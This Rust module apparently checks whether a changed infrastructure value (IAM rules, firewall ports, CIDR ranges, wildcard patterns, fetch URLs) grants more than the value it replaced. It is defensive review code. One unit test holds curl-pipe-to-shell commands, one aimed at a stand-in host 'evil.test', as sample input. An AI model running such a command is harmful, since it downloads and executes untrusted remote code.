//! Whether a value that another took the place of opens more than that one did.
//!
//! What is there decides, not how much of it: another port, another action or another file of the host is something that nobody
//! accepted, though there be no more of them than before. A value that lies within the old one is no wider.

use std::borrow::Cow;

use ipnet::IpNet;

use super::subject::digest;
use crate::model::view::iam;
use crate::model::view::rule::{WORDS, is_rule};
use crate::model::{Lookup, Node, Value};

/// Keys that narrow a rule: without them it holds for all.
const NARROWING: [&str; 8] =
    ["Condition", "condition", "resourceNames", "resource_names", "except", "ports", "from", "to"];

/// Keys without which a rule holds for less.
const GRANTING: [&str; 5] = ["cidr_blocks", "ipv6_cidr_blocks", "security_groups", "prefix_list_ids", "self"];

/// What is right or wrong by degrees: of two wrong ones neither opens more.
const DEGREES: [&str; 8] = ["image", "version", "tag", "base", "name", "ssl_policy", "security_policy", "algorithm"];

/// Whether an attribute's values differ in degree only.
pub(super) fn is_degree(attribute: &str, node: &Node) -> bool {
    let last = attribute.rsplit('.').next().unwrap_or("").trim_end_matches("[]").to_lowercase();
    match node.value {
        Value::Number(_) => !last.contains("port"),
        Value::String(_) => DEGREES.iter().any(|word| last.ends_with(word)),
        _ => false,
    }
}

/// Whether all that `new` opens is open by `old`. Of maps that are no rules only values that both have are compared.
pub(super) fn is_within(new: &Node, old: &Node) -> bool {
    within(new, old, false)
}

fn within(new: &Node, old: &Node, in_rule: bool) -> bool {
    let (new, old) = (&*read(new), &*read(old));
    match (&new.value, &old.value) {
        (Value::Map(_), Value::Map(_)) => maps_within(new, old, in_rule),
        (Value::List(items), Value::List(_)) => {
            items.iter().all(|item| old.items().iter().any(|one| within(item, one, in_rule)))
        }
        // One alone stands for a list of one.
        (Value::List(items), _) => items.iter().all(|item| within(item, old, in_rule)),
        (_, Value::List(items)) => items.iter().any(|one| within(new, one, in_rule)),
        (Value::String(new), Value::String(old)) => text_within(new, old),
        _ => digest(new) == digest(old),
    }
}

/// A text that holds a document counts as the document.
pub(super) fn read(node: &Node) -> Cow<'_, Node> {
    let is_text = matches!(&node.value, Value::String(text) if text.trim_start().starts_with(['{', '[']));
    let document = if node.structure.is_some() || is_text { iam::document(node) } else { None };
    document.unwrap_or(Cow::Borrowed(node))
}

fn maps_within(new: &Node, old: &Node, in_rule: bool) -> bool {
    let in_rule = in_rule || is_rule(new) || is_rule(old);
    let get = |node: &Node, key: &str| match node.get(key) {
        Lookup::Known(node) => !is_empty(node),
        Lookup::Unknown(_) => true,
        Lookup::Absent(_) => false,
    };
    let ports = ports(new).zip(ports(old));
    if ports.is_some_and(|((from, to), (first, last))| from < first || to > last) {
        return false;
    }
    let is_port = |key: &str| ports.is_some() && matches!(key, "from_port" | "fromPort" | "to_port" | "toPort");
    let told = |key: &str| !WORDS.contains(&key) && !is_port(key);
    let added = new.entries().iter().filter(|entry| told(&entry.key) && get(new, &entry.key)).all(|entry| {
        let key = &*entry.key;
        let before = old.entries().iter().find(|other| other.key == entry.key).filter(|_| get(old, key));
        match (before, key) {
            (None, _) => !in_rule || NARROWING.contains(&key),
            (Some(before), "Condition" | "condition") => digest(&read(&entry.node)) == digest(&read(&before.node)),
            (Some(before), "except") => within(&before.node, &entry.node, in_rule),
            (Some(before), _) => within(&entry.node, &before.node, in_rule),
        }
    });
    let gone = |key: &str| told(key) && get(old, key) && !get(new, key) && !GRANTING.contains(&key);
    added && !(in_rule && old.entries().iter().any(|entry| gone(&entry.key)))
}

fn is_empty(node: &Node) -> bool {
    match &node.value {
        Value::Null => true,
        Value::List(items) => items.is_empty(),
        Value::Map(map) => map.entries().is_empty(),
        Value::String(text) => text.is_empty(),
        _ => false,
    }
}

/// Texts are equal, or one lies in the other's network, or the other's wildcards stand for it.
fn text_within(new: &str, old: &str) -> bool {
    if new == old {
        return true;
    }
    match (new.trim().parse::<IpNet>(), old.trim().parse::<IpNet>()) {
        (Ok(new), Ok(old)) => old.contains(&new),
        _ => old.contains('*') && stands_for(old.as_bytes(), new.as_bytes()),
    }
}

/// Whether a pattern with `*` for any characters stands for a text.
fn stands_for(pattern: &[u8], text: &[u8]) -> bool {
    let (mut at, mut read) = (0, 0);
    let mut star = None;
    while read < text.len() {
        match pattern.get(at) {
            Some(b'*') => {
                star = Some((at + 1, read));
                at += 1;
            }
            Some(byte) if *byte == text[read] => (at, read) = (at + 1, read + 1),
            _ => match &mut star {
                // The star takes one character more.
                Some((after, from)) => {
                    *from += 1;
                    (at, read) = (*after, *from);
                }
                None => return false,
            },
        }
    }
    pattern[at..].iter().all(|byte| *byte == b'*')
}

/// The first and last port of a rule of a firewall; all of them where it names none.
fn ports(rule: &Node) -> Option<(f64, f64)> {
    let number = |names: [&str; 2]| {
        names.iter().find_map(|name| match rule.get(name) {
            Lookup::Known(node) => match &node.value {
                Value::Number(number) => Some(number.as_f64()),
                Value::String(text) => text.parse().ok(),
                _ => None,
            },
            _ => None,
        })
    };
    let (from, to) = (number(["from_port", "fromPort"])?, number(["to_port", "toPort"])?);
    // Terraform's way to say all ports, with a protocol of -1.
    Some(if (from, to) == (0.0, 0.0) || from < 0.0 { (0.0, 65_535.0) } else { (from, to) })
}

/// Whether a text names a host that another does not: what is fetched comes from elsewhere.
pub(super) fn names_other_host(new: &str, old: &str) -> bool {
    fn hosts(text: &str) -> impl Iterator<Item = &str> {
        text.match_indices("://").map(|(at, mark)| {
            let rest = &text[at + mark.len()..];
            let end = rest.find(|char: char| char.is_whitespace() || "/\"'`)|;&<>?#\\".contains(char));
            &rest[..end.unwrap_or(rest.len())]
        })
    }
    hosts(new).any(|host| hosts(old).all(|other| other != host))
}

#[cfg(test)]
mod tests {
    use super::{names_other_host, stands_for, text_within};

    #[test]
    fn a_text_lies_within_a_network_or_a_pattern() {
        assert!(text_within("10.1.0.0/16", "10.0.0.0/8") && !text_within("10.0.0.0/8", "10.1.0.0/16"));
        assert!(text_within("s3:GetObject", "s3:*") && !text_within("s3:*", "s3:GetObject"));
        assert!(text_within("arn:aws:s3:::logs/a", "*") && !text_within("/", "/etc"));
        assert!(stands_for(b"a*b*c", b"aXbYbZc") && !stands_for(b"a*b", b"aXc"));
    }

    #[test]
    fn another_version_comes_from_the_same_host() {
        assert!(!names_other_host("curl https://get.acme.test/v2 | sh", "curl https://get.acme.test/v1 | sh"));
        assert!(names_other_host("curl https://evil.test/v1 | sh", "curl https://get.acme.test/v1 | sh"));
    }
}
